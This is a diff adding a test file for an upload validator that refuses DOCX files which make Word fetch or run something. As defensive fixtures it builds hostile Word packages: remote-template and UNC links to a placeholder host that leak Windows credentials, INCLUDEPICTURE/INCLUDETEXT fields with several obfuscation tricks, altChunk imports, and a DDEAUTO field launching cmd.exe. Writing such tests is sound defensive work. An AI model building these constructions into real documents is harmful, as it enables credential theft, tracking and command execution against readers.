@@ -1,0 +1,268 @@
+import fs from "node:fs";
+import { afterEach, describe, expect, it } from "vitest";
+import { COURSE_IMAGE_RULE, COURSE_SYLLABUS_RULE } from "~/lib/course-upload.server";
+import { scanPart } from "~/lib/docx-parts.server";
+import { ENQUIRY_UPLOAD_RULE } from "~/lib/site-forms.server";
+import { parseMultipart, type MultipartResult } from "~/lib/uploads.server";
+import { SYLLABUS_TYPE_MESSAGE } from "~/schemas/course";
+import { ENQUIRY_FILE_TYPE_MESSAGE } from "~/schemas/enquiry";
+import { filesOnDisk, uploadRoot } from "../helpers/stored-files";
+import { multipartRequest, zip } from "./upload-fixtures";
+
+/**
+ * DOCX files that make Word fetch something when a visitor opens a syllabus (or staff an attachment): a
+ * relationship to another machine or a file path, an INCLUDEPICTURE / INCLUDETEXT (or DDE) field, an altChunk
+ * that imports another file. Refused with each kind's type message, like a macro; ordinary documents with web
+ * links and everyday fields are still taken. Real archives through the real upload parser and upload folder.
+ */
+const RULES = [COURSE_IMAGE_RULE, COURSE_SYLLABUS_RULE, ENQUIRY_UPLOAD_RULE];
+
+async function upload(field: string, filename: string, data: Buffer): Promise<MultipartResult> {
+  return parseMultipart(multipartRequest([{ name: field, filename, data }]), RULES);
+}
+
+afterEach(() => fs.rmSync(uploadRoot(), { recursive: true, force: true }));
+
+const W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
+const R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
+const REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
+const STRICT_REL_NS = "http://purl.oclc.org/ooxml/officeDocument/relationships";
+
+const CONTENT_TYPES = Buffer.from(
+  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
+    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>' +
+    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
+);
+
+const ROOT_RELS = rels(`<Relationship Id="rId1" Type="${REL_NS}/officeDocument" Target="word/document.xml"/>`);
+
+/** A Word XML part (document, header, footer, footnotes) around the given body XML. */
+function wordXml(body: string, root = "w:document", inner = "w:body"): string {
+  return `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><${root} xmlns:w="${W}" xmlns:r="${R}"><${inner}>${body}</${inner}></${root}>`;
+}
+
+function rels(body: string): Buffer {
+  return Buffer.from(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${body}</Relationships>`);
+}
+
+function relationship(type: string, target: string, external = true, ns = REL_NS, id = "rId9"): string {
+  return `<Relationship Id="${id}" Type="${ns}/${type}" Target="${target}"${external ? ' TargetMode="External"' : ""}/>`;
+}
+
+const para = (text: string) => `<w:p><w:r><w:t xml:space="preserve">${text}</w:t></w:r></w:p>`;
+
+/** Paragraphs of varied course text, about `bytes` long: it compresses like prose, so the archive's ratio guard lets it through. */
+let seed = 7;
+function prose(bytes: number): string {
+  const words = ["alert", "triage", "SIEM", "log", "query", "endpoint", "phishing", "malware", "incident", "playbook", "network", "packet", "hash", "IOC", "threat", "hunting", "Splunk", "Sentinel", "escalation", "analyst"];
+  const out: string[] = [];
+  let size = 0;
+  while (size < bytes) {
+    const sentence = Array.from({ length: 12 }, () => {
+      seed = (seed * 1103515245 + 12345) >>> 0;
+      return `${words[seed % words.length]}${seed % 97}`;
+    }).join(" ");
+    const p = para(`${sentence}.`);
+    out.push(p);
+    size += p.length;
+  }
+  return out.join("");
+}
+
+/** A complex field as Word writes it: begin, the instruction in one or more runs, separate, result, end. */
+function field(instructionRuns: string[], result = "x"): string {
+  return (
+    '<w:r><w:fldChar w:fldCharType="begin"/></w:r>' +
+    instructionRuns.map((t) => `<w:r><w:instrText xml:space="preserve">${t}</w:instrText></w:r>`).join("") +
+    '<w:r><w:fldChar w:fldCharType="separate"/></w:r>' +
+    `<w:r><w:t>${result}</w:t></w:r>` +
+    '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
+  );
+}
+
+/** A long SVG path (a traced logo): one attribute well over a megabyte. */
+function svgPath(points: number): string {
+  let out = "";
+  for (let i = 0; i < points; i++) {
+    seed = (seed * 1103515245 + 12345) >>> 0;
+    out += ` L${seed % 997} ${(seed >>> 10) % 991}`;
+  }
+  return out;
+}
+
+type Part = { name: string; data: Buffer | string };
+
+/** A package with the given document body, document relationships and further parts. */
+function wordFile(body: string, opts: { documentRels?: string; parts?: Part[]; document?: Buffer } = {}): Buffer {
+  const entries = [
+    { name: "[Content_Types].xml", data: CONTENT_TYPES },
+    { name: "_rels/.rels", data: ROOT_RELS },
+    { name: "word/document.xml", data: opts.document ?? Buffer.from(wordXml(body)) },
+  ];
+  if (opts.documentRels !== undefined) entries.push({ name: "word/_rels/document.xml.rels", data: rels(opts.documentRels) });
+  for (const p of opts.parts ?? []) entries.push({ name: p.name, data: typeof p.data === "string" ? Buffer.from(p.data) : p.data });
+  return zip(entries);
+}
+
+async function expectRefusedEverywhere(file: Buffer) {
+  expect((await upload("syllabusFile", "syllabus.docx", file)).errors.syllabusFile).toBe(SYLLABUS_TYPE_MESSAGE);
+  expect((await upload("filePaths", "cv.docx", file)).errors.filePaths).toBe(ENQUIRY_FILE_TYPE_MESSAGE);
+  expect(filesOnDisk()).toEqual([]);
+}
+
+async function expectAcceptedEverywhere(file: Buffer) {
+  const syllabus = await upload("syllabusFile", "syllabus.docx", file);
+  expect(syllabus.errors).toEqual({});
+  expect(syllabus.files).toHaveLength(1);
+  const attachment = await upload("filePaths", "cv.docx", file);
+  expect(attachment.errors).toEqual({});
+  expect(attachment.files).toHaveLength(1);
+}
+
+describe("relationships to another machine or a file", () => {
+  const refused: [string, () => Buffer][] = [
+    ["a linked picture fetched over HTTP (a web beacon)", () => wordFile(para("Week 1"), { documentRels: relationship("image", "https://203.0.113.9/pixel.png") })],
+    ["a linked picture on a UNC path (hands over the reader's Windows credentials)", () => wordFile(para("Week 1"), { documentRels: relationship("image", "\\\\203.0.113.9\\share\\logo.png") })],
+    ["a linked picture under the strict (ISO) namespace", () => wordFile(para("Week 1"), { documentRels: relationship("image", "https://203.0.113.9/p.png", true, STRICT_REL_NS) })],
+    ["an external link to a workbook (externalLinkPath)", () => wordFile(para("x"), { documentRels: relationship("externalLinkPath", "https://203.0.113.9/book.xlsx") })],
+    [
+      "a mail-merge data source on another host (settings.xml.rels)",
+      () => wordFile(para("x"), { parts: [{ name: "word/_rels/settings.xml.rels", data: rels(relationship("mailMergeSource", "file://203.0.113.9/share/data.mdb")) }] }),
+    ],
+    ["a remote template on a //host/share path", () => wordFile(para("x"), { parts: [{ name: "word/_rels/settings.xml.rels", data: rels(relationship("attachedTemplate", "//203.0.113.9/share/t.dotm")) }] })],
+    ["a hyperlink to a program on the reader's disk (file:)", () => wordFile(para("x"), { documentRels: relationship("hyperlink", "file:///C:/Windows/System32/calc.exe") })],
+    ["a hyperlink in upper case FILE: scheme", () => wordFile(para("x"), { documentRels: relationship("hyperlink", "FILE:///C:/Windows/System32/calc.exe") })],
+    ["a hyperlink to a UNC share (\\\\host\\share)", () => wordFile(para("x"), { documentRels: relationship("hyperlink", "\\\\203.0.113.9\\share\\notes.docx") })],
+    ["a hyperlink to a //host/share path", () => wordFile(para("x"), { documentRels: relationship("hyperlink", "//203.0.113.9/share/notes.docx") })],
+    ["a hyperlink to a UNC share spelled with character references", () => wordFile(para("x"), { documentRels: relationship("hyperlink", "&#92;&#x5c;203.0.113.9\\share\\n.docx") })],
+    ["an internal relationship whose target is a file: URL", () => wordFile(para("x"), { documentRels: relationship("image", "file://203.0.113.9/share/p.png", false) })],
+    ["a hyperlink relationship in a header's part", () => wordFile(para("x"), { parts: [{ name: "word/_rels/header1.xml.rels", data: rels(relationship("hyperlink", "\\\\evil\\s\\x")) }] })],
+  ];
+  for (const [label, make] of refused) {
+    it(`refuses ${label}, as a syllabus and as an attachment`, async () => {
+      await expectRefusedEverywhere(make());
+    });
+  }
+});
+
+describe("fields that pull in another file or run a program", () => {
+  const refused: [string, () => Buffer][] = [
+    ["an INCLUDEPICTURE field", () => wordFile(`<w:p>${field([' INCLUDEPICTURE "https://203.0.113.9/p.png" \\d '])}</w:p>`)],
+    ["an INCLUDEPICTURE field on a UNC path", () => wordFile(`<w:p>${field([' INCLUDEPICTURE "\\\\\\\\203.0.113.9\\\\share\\\\p.png" '])}</w:p>`)],
+    ["an INCLUDEPICTURE field split over several runs, in lower case", () => wordFile(`<w:p>${field([" incl", "udePic", 'ture "https://203.0.113.9/p.png"'])}</w:p>`)],
+    ["an INCLUDETEXT field", () => wordFile(`<w:p>${field([' INCLUDETEXT "C:\\\\Users\\\\Public\\\\x.docx" '])}</w:p>`)],
+    ["an INCLUDETEXT in a simple field in a header", () => wordFile(para("x"), { parts: [{ name: "word/header1.xml", data: wordXml('<w:fldSimple w:instr=" INCLUDETEXT &quot;https://203.0.113.9/t.docx&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple>', "w:hdr", "w:p") }] })],
+    ["an INCLUDEPICTURE in the footnotes", () => wordFile(para("x"), { parts: [{ name: "word/footnotes.xml", data: wordXml(`<w:footnote w:id="1"><w:p>${field([" INCLUDEPICTURE http://203.0.113.9/p.png "])}</w:p></w:footnote>`, "w:footnotes", "w:body") }] })],
+    ["an INCLUDETEXT hidden behind character references", () => wordFile(`<w:p>${field([" INCLUDE&#84;E&#x58;T http://203.0.113.9/t.docx "])}</w:p>`)],
+    ["an INCLUDEPICTURE split by an XML comment and a CDATA section", () => wordFile(`<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDE<!-- x --><![CDATA[PIC]]>TURE http://203.0.113.9/p.png</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`)],
+    ["an INCLUDEPICTURE under another namespace prefix", () => wordFile("", { document: Buffer.from(`<?xml version="1.0"?><x:document xmlns:x="${W}"><x:body><x:p><x:r><x:instrText>INCLUDEPICTURE http://203.0.113.9/p.png</x:instrText></x:r></x:p></x:body></x:document>`) })],
+    ["an INCLUDEPICTURE in a UTF-16 document", () => wordFile("", { document: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(wordXml(`<w:p>${field([" INCLUDEPICTURE http://203.0.113.9/p.png "])}</w:p>`).replace('encoding="UTF-8"', 'encoding="UTF-16"'), "utf16le")]) })],
+    ["an INCLUDEPICTURE deep in a document over 3 MB (past any one chunk)", () => wordFile(prose(3_500_000) + `<w:p>${field([" INCLUDEPIC", "TURE http://203.0.113.9/p.png "])}</w:p>`)],
+    ["an INCLUDEPICTURE in a main document kept under another name", () =>
+      zip([
+        { name: "[Content_Types].xml", data: CONTENT_TYPES },
+        { name: "_rels/.rels", data: rels(`<Relationship Id="rId1" Type="${REL_NS}/officeDocument" Target="word/main.dat"/>`) },
+        { name: "word/document.xml", data: Buffer.from(wordXml(para("decoy"))) },
+        { name: "word/main.dat", data: Buffer.from(wordXml(`<w:p>${field([" INCLUDEPICTURE http://203.0.113.9/p.png "])}</w:p>`)) },
+      ])],
+    ["a field whose name is made by a nested QUOTE field", () => wordFile(`<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${field([' QUOTE 73 78 67 76 85 68 69 80 73 67 84 85 82 69 '])}<w:r><w:instrText> "http://203.0.113.9/p.png"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`)],
+    ["a DDEAUTO field (runs a program)", () => wordFile(`<w:p>${field([' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" '])}</w:p>`)],
+    ["a part with a DOCTYPE (an entity could spell the field)", () => wordFile("", { document: Buffer.from(`<?xml version="1.0"?><!DOCTYPE d [<!ENTITY f "INCLUDEPICTURE">]><w:document xmlns:w="${W}"><w:body><w:p><w:r><w:instrText>&f; http://203.0.113.9/p.png</w:instrText></w:r></w:p></w:body></w:document>`) })],
+    ["a part declared in an encoding the checks cannot read (UTF-7)", () => wordFile("", { document: Buffer.from(`<?xml version="1.0" encoding="UTF-7"?><w:document xmlns:w="${W}"><w:body><w:p><w:r><w:instrText>+AEkATgBDAEwAVQBEAEUAUABJAEMAVABVAFIARQ- http://203.0.113.9/p.png</w:instrText></w:r></w:p></w:body></w:document>`) })],
+  ];
+  for (const [label, make] of refused) {
+    it(`refuses ${label}, as a syllabus and as an attachment`, async () => {
+      await expectRefusedEverywhere(make());
+    });
+  }
+});
+
+describe("altChunk: another file imported into the document", () => {
+  it("refuses a w:altChunk element", async () => {
+    await expectRefusedEverywhere(
+      wordFile(`${para("Week 1")}<w:altChunk r:id="rId5"/>`, {
+        documentRels: relationship("aFChunk", "afchunk.mht", false, REL_NS, "rId5"),
+        parts: [{ name: "word/afchunk.mht", data: "MIME-Version: 1.0\r\n\r\n<html><img src=\"file://203.0.113.9/x.png\"></html>" }],
+      }),
+    );
+  });
+
+  it("refuses an aFChunk relationship on its own", async () => {
+    await expectRefusedEverywhere(wordFile(para("Week 1"), { documentRels: relationship("aFChunk", "afchunk.htm", false), parts: [{ name: "word/afchunk.htm", data: "<html><p>x</p></html>" }] }));
+  });
+
+  it("refuses an altChunk in a header, whatever its prefix", async () => {
+    await expectRefusedEverywhere(wordFile(para("x"), { parts: [{ name: "word/header2.xml", data: `<?xml version="1.0"?><hdr xmlns="${W}"><altChunk/></hdr>` }] }));
+  });
+});
+
+describe("ordinary documents are still taken", () => {
+  it("accepts a syllabus with web and mail links, a table of contents, page numbers and a picture", async () => {
+    const body =
+      `<w:p>${field([' TOC \\o "1-3" \\h \\z \\u '], "")}` +
+      `<w:hyperlink w:anchor="_Toc1">${field([" PAGEREF _Toc1 \\h "], "2")}</w:hyperlink></w:p>` +
+      `<w:p><w:hyperlink r:id="rId2"><w:r><w:t>NIST SP 800-61</w:t></w:r></w:hyperlink></w:p>` +
+      `<w:p>${field([' HYPERLINK "https://attack.mitre.org/" '], "MITRE ATT&amp;CK")}</w:p>` +
+      `<w:p><w:hyperlink r:id="rId3"><w:r><w:t>admissions</w:t></w:r></w:hyperlink></w:p>` +
+      `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> IF </w:instrText></w:r>${field([" DATE \\@ yyyy "], "2026")}<w:r><w:instrText> &gt; 2025 "new" "old" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>` +
+      para("Module 7: malicious Office documents - remote templates, INCLUDEPICTURE and INCLUDETEXT fields, altChunk, DDEAUTO.");
+    const file = wordFile(body, {
+      documentRels:
+        relationship("hyperlink", "https://csrc.nist.gov/pubs/sp/800/61/r2/final", true, REL_NS, "rId2") +
+        relationship("hyperlink", "mailto:admissions@example.in", true, REL_NS, "rId3") +
+        relationship("hyperlink", "https://example.in/courses?level=advanced&amp;mode=online", true, STRICT_REL_NS, "rId4") +
+        relationship("image", "media/image1.png", false, REL_NS, "rId6") +
+        relationship("footer", "footer1.xml", false, REL_NS, "rId7"),
+      parts: [
+        { name: "word/footer1.xml", data: wordXml('<w:fldSimple w:instr=" PAGE \\* MERGEFORMAT "><w:r><w:t>1</w:t></w:r></w:fldSimple>', "w:ftr", "w:p") },
+        { name: "word/media/image1.png", data: Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x3c, 0x21, 0x44, 0x4f]) },
+        { name: "word/media/image2.svg", data: `<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0${svgPath(150_000)}"/></svg>` },
+        { name: "word/_rels/settings.xml.rels", data: rels(relationship("attachedTemplate", "file:///C:\\Users\\asha\\AppData\\Roaming\\Microsoft\\Templates\\Syllabus.dotx")) },
+      ],
+    });
+    await expectAcceptedEverywhere(file);
+  });
+
+  it("accepts a long syllabus (a document part over 3 MB) with fields throughout", async () => {
+    const weeks = Array.from({ length: 3000 }, (_, i) => `<w:p>${field([" PAGE "], String(i))}</w:p>${prose(1200)}`).join("");
+    const file = wordFile(weeks);
+    expect(file.length).toBeLessThan(10 * 1024 * 1024);
+    await expectAcceptedEverywhere(file);
+  });
+});
+
+describe("the part scanner, fed in chunks of any size", () => {
+  /** Feeds the part in chunks of `size` bytes, as the inflate stream hands them over; true when refused. */
+  function refusedInChunks(part: Buffer, size: number): boolean {
+    const scanner = scanPart();
+    for (let i = 0; i < part.length; i += size) if (scanner.write(part.subarray(i, i + size))) return true;
+    return scanner.end();
+  }
+
+  const hostile: [string, Buffer][] = [
+    ["a split INCLUDEPICTURE", Buffer.from(wordXml(`<w:p>${field([" INCLU", "DEPICTURE http://203.0.113.9/p.png "])}</w:p>`))],
+    ["a simple INCLUDETEXT field", Buffer.from(wordXml('<w:p><w:fldSimple w:instr=" INCLUDETEXT x.docx "/></w:p>'))],
+    ["a field split by a comment and CDATA", Buffer.from(wordXml("<w:p><w:r><w:instrText>INCLUDE<!-- - -><![CDATA[PICT]]>URE x</w:instrText></w:r></w:p>"))],
+    ["an altChunk", Buffer.from(wordXml('<w:altChunk r:id="rId5"/>'))],
+    ["a DOCTYPE", Buffer.from(`<?xml version="1.0"?><!DOCTYPE d><w:document xmlns:w="${W}"/>`)],
+    ["a UTF-16 field", Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(wordXml(`<w:p>${field([" INCLUDEPICTURE x "])}</w:p>`).replace("UTF-8", "UTF-16"), "utf16le")])],
+  ];
+  const ordinary = Buffer.from(
+    wordXml(
+      `<!-- a comment --><w:p>${field([' TOC \\o "1-3" '], "")}<w:r><w:t><![CDATA[INCLUDEPICTURE is taught in week 7]]></w:t></w:r>${field([" PAGEREF _Toc1 "], "2")}</w:p>` +
+        '<w:p><w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>',
+    ),
+  );
+
+  for (const size of [1, 2, 3, 5, 8, 64, 1 << 20]) {
+    it(`refuses each hostile part and takes an ordinary one, in chunks of ${size} bytes`, () => {
+      for (const [label, part] of hostile) expect(refusedInChunks(part, size), label).toBe(true);
+      expect(refusedInChunks(ordinary, size)).toBe(false);
+    });
+  }
+
+  it("does not read a part that is not XML (a picture, a font), however it goes on", () => {
+    const png = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47]), Buffer.from("<w:altChunk/><!DOCTYPE x>")]);
+    expect(refusedInChunks(png, 3)).toBe(false);
+  });
+});
